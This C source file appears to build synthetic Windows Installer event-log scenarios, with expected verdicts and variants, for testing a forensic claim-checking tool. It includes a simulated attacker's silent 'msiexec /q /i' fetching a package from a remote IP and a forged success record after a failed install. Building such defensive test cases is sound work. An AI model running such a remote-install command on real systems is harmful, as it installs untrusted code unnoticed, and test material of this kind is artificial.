/* Windows Installer. */
#include "writer/story.h"

#define MSIEXEC "C:\\Windows\\System32\\msiexec.exe"
#define NULLS "(NULL)", "(NULL)", "(NULL)", "(NULL)"

typedef struct product {
    const char *prefix, *name, *version, *maker, *code, *package;
} product;

static const product reader = {"installed", "Example Reader 4.2", "4.2.118", "Example Software",
                               "{7D1F8A3E-52C4-4B7E-9C0D-3B6E5A1F2C94}",
                               "C:\\Users\\maria\\Downloads\\reader-4.2.118-x64.msi"};
static const product ledger = {"refused", "Ledger Tools", "2.0.4", "Example Ledgers",
                               "{B4C2E6D1-0A9F-4D3C-8E7B-6F5A4C3D2E10}",
                               "C:\\Users\\maria\\Downloads\\LedgerTools.msi"};

static void msi(host *h, ticks t, const ew_kind *kind, const product *p, const process *service, const char *user,
                const char *first, const char *second, const char *third, const char *fourth, const char *fifth)
{
    const char *id = host_text(h, "{0000%.8s%s0904}", p->code + 1, "0000000000000000000000000000");
    bool with_program = kind == &kind_msi_1033;
    host_tag(h, host_text(h, "%s.%u", p->prefix, kind->id));
    host_strings(h, t, kind, service->pid, user,
                 host_text(h, "%s%s", host_ascii_hex(h, p->code), with_program ? host_ascii_hex(h, id + 1) : ""), 7, first,
                 second, third, fourth, fifth, "(NULL)", "");
    host_tag(h, NULL);
}

static void transaction(host *h, ticks t, const ew_kind *kind, const product *p, const process *service,
                        const process *client, const char *user)
{
    host_tag(h, host_text(h, "%s.%u", p->prefix, kind->id));
    host_strings(h, t, kind, service->pid, user, NULL, 7, p->package, host_text(h, "%u", client->pid), NULLS, "");
    host_tag(h, NULL);
}

static const process *service_of(host *h, ticks t)
{
    const boot *b = host_boot(h, t);
    const process *p = host_start(h, t, b->services, b->local_system, MSIEXEC, "C:\\Windows\\system32\\msiexec.exe /V");
    host_exit(h, t + 620 * TICKS_S, p, 0);
    return p;
}

static void tell_installed(scene *s)
{
    host *h = s->h;
    const product *p = &reader;
    ticks t = host_near(h, host_at(h, 1, 10, 15, 4));
    const boot *b = host_boot(h, t);
    host_tag(h, "installed.command");
    const process *client = host_start(h, t, b->explorer, b->user_admin, MSIEXEC,
                                       host_text(h, "\"C:\\Windows\\System32\\msiexec.exe\" /i \"%s\"", p->package));
    host_tag(h, NULL);
    const process *service = service_of(h, t + 800 * TICKS_MS);
    const char *user = b->user_admin->who.sid;
    transaction(h, t + 11 * TICKS_S, &kind_msi_1040, p, service, client, user);
    msi(h, t + 33 * TICKS_S, &kind_msi_11707, p, service, user,
        host_text(h, "Product: %s -- Installation completed successfully.", p->name), NULLS);
    msi(h, t + 33 * TICKS_S + 3000, &kind_msi_1033, p, service, user, p->name, p->version, "1033", "0", p->maker);
    transaction(h, t + 34 * TICKS_S, &kind_msi_1042, p, service, client, "S-1-5-18");
    host_tag(h, "installed.exit");
    host_exit(h, t + 36 * TICKS_S, client, 0);
    host_tag(h, NULL);
}

static void tell_refused(scene *s)
{
    host *h = s->h;
    const product *p = &ledger;
    ticks t = host_near(h, host_at(h, 1, 14, 30, 27));
    const boot *b = host_boot(h, t);
    host_tag(h, "refused.command");
    const process *client = host_start(h, t, b->explorer, b->user_admin, MSIEXEC,
                                       host_text(h, "\"C:\\Windows\\System32\\msiexec.exe\" /i \"%s\" /qn", p->package));
    host_tag(h, NULL);
    const process *service = service_of(h, t + 700 * TICKS_MS);
    const char *user = b->user_admin->who.sid;
    transaction(h, t + 2 * TICKS_S, &kind_msi_1040, p, service, client, user);
    msi(h, t + 4 * TICKS_S, &kind_msi_10005, p, service, user,
        host_text(h, "Product: %s -- This setup needs the example runtime version 9 or later.", p->name), NULLS);
    msi(h, t + 6 * TICKS_S, &kind_msi_11708, p, service, user, host_text(h, "Product: %s -- Installation failed.", p->name),
        NULLS);
    msi(h, t + 6 * TICKS_S + 2000, &kind_msi_1033, p, service, user, p->name, p->version, "1033", "1603", p->maker);
    transaction(h, t + 7 * TICKS_S, &kind_msi_1042, p, service, client, "S-1-5-18");
    host_tag(h, "refused.exit");
    host_exit(h, t + 8 * TICKS_S, client, 0x643);
    host_tag(h, NULL);
}

/* A failed installation, and a record that says it worked: well made, as any user can write one. */
static void tell_contradicted(scene *s)
{
    static const product p = {"contra", "Field Notes", "1.4.2", "Example Notes", "{C3D5F7A9-1B2D-4E6F-8091-A2B3C4D5E6F7}",
                              "C:\\Users\\Public\\notes.msi"};
    host *h = s->h;
    ticks t = host_near(h, host_at(h, DAY_OF_ATTACK, 13, 22, 41));
    host_tag(h, "contra.command");
    const process *client = host_start(h, t, s->eve_shell, s->eve, MSIEXEC, host_text(h, "msiexec  /i %s /qn", p.package));
    host_tag(h, NULL);
    const process *service = service_of(h, t + 600 * TICKS_MS);
    const char *user = s->eve->who.sid;
    transaction(h, t + 2 * TICKS_S, &kind_msi_1040, &p, service, client, user);
    msi(h, t + 5 * TICKS_S, &kind_msi_11708, &p, service, user, "Product: Field Notes -- Installation failed.", NULLS);
    msi(h, t + 5 * TICKS_S + 900, &kind_msi_1033, &p, service, user, p.name, p.version, "1033", "1603", p.maker);
    transaction(h, t + 6 * TICKS_S, &kind_msi_1042, &p, service, client, "S-1-5-18");
    host_exit(h, t + 6 * TICKS_S + 400 * TICKS_MS, client, 0x643);
    msi(h, t + 7 * TICKS_S, &kind_msi_1033, &p, service, user, p.name, p.version, "1033", "0", p.maker);
    host_last_tag(h, "contra.claimed");
}

/* A package from the network that Windows Installer could not open: no transaction, no record of it. */
static void tell_from_url(scene *s)
{
    host *h = s->h;
    ticks t = host_near(h, host_at(h, DAY_OF_ATTACK, 12, 46, 30));
    host_tag(h, "url.command");
    const process *client = host_start(h, t, s->eve_shell, s->eve, MSIEXEC, "msiexec  /q /i http://203.0.113.7/u.msi");
    host_tag(h, "url.exit");
    host_exit(h, t + 21 * TICKS_S, client, 0x653);
    host_tag(h, NULL);
}

const story product_stories[] = {
    {.name = "product-installed",
     .tells = "Windows Installer puts a product on: transaction, 11707, 1033 with status 0",
     .tell = tell_installed,
     .truths = {{.claim = "product-installed", .parameters = "product=Example Reader 4.2", .words = "achieved",
                 .forbidden = "failed|no-effect|other-effect", .tags = "installed.command|installed.1033"}},
     .twins = {{.name = "product-no-outcome", .why = "no record says that the product came on",
                .cuts = {{CUT_DROP, NULL, "installed.11707"}, {CUT_DROP, NULL, "installed.1033"}},
                .truths = {{.claim = "product-installed", .parameters = "package=*reader-4.2.118-x64.msi",
                            .words = "failed|no-effect|ran|attempted", .forbidden = "achieved|achieved-persists|other-effect",
                            .tags = "installed.command"}}},
               {.name = "product-no-application", .why = "the Application log was not collected",
                .cuts = {{CUT_WITHOUT, "Application", NULL}},
                .truths = {{.claim = "product-installed", .parameters = "package=*reader-4.2.118-x64.msi",
                            .words = "ran|attempted", .forbidden = "achieved|failed|no-effect"}}}}},
    {.name = "product-refused",
     .tells = "an installation ends with 1603",
     .tell = tell_refused,
     .truths = {{.claim = "product-installed", .parameters = "product=Ledger Tools", .words = "failed",
                 .forbidden = "achieved|no-effect|other-effect", .tags = "refused.command|refused.1033"}},
     .twins = {{.name = "product-no-refusal", .why = "no record of Windows Installer and no exit status",
                .cuts = {{CUT_DROP, "Application", "refused.*"}, {CUT_DROP, NULL, "refused.exit"}},
                .truths = {{.claim = "product-installed", .parameters = "package=*LedgerTools.msi", .words = "no-effect",
                            .forbidden = "achieved|failed", .tags = "refused.command"}}}}},
    {.name = "product-contradicted",
     .tells = "one record says that the installation failed, another that it worked",
     .tell = tell_contradicted,
     .truths = {{.claim = "product-installed", .parameters = "product=Field Notes", .words = "conflicting|achieved",
                 .forbidden = "failed|no-effect", .tags = "contra.command|contra.claimed"}},
     .twins = {{.name = "product-not-contradicted", .why = "only the failure was recorded",
                .cuts = {{CUT_DROP, NULL, "contra.claimed"}},
                .truths = {{.claim = "product-installed", .parameters = "product=Field Notes", .words = "failed",
                            .forbidden = "achieved|conflicting", .tags = "contra.command|contra.1033"}}}}},
    {.name = "product-from-url",
     .tells = "msiexec on a URL, and no record of Windows Installer, though there would have been one",
     .tell = tell_from_url,
     .truths = {{.claim = "product-installed", .parameters = "package=http://203.0.113.7/u.msi",
                 .words = "failed|no-effect", .forbidden = "achieved|ran|attempted", .tags = "url.command"}},
     .twins = {{.name = "url-no-exit", .why = "how msiexec ended was not recorded",
                .cuts = {{CUT_DROP, NULL, "url.exit"}},
                .truths = {{.claim = "product-installed", .parameters = "package=http://203.0.113.7/u.msi",
                            .words = "no-effect", .forbidden = "achieved|failed", .tags = "url.command"}}},
               {.name = "url-no-application", .why = "the Application log was not collected, nor how msiexec ended",
                .cuts = {{CUT_WITHOUT, "Application", NULL}, {CUT_DROP, NULL, "url.exit"}},
                .truths = {{.claim = "product-installed", .parameters = "package=http://203.0.113.7/u.msi",
                            .words = "ran|attempted", .forbidden = "achieved|failed|no-effect"}}}}},
    {.name = NULL},
};
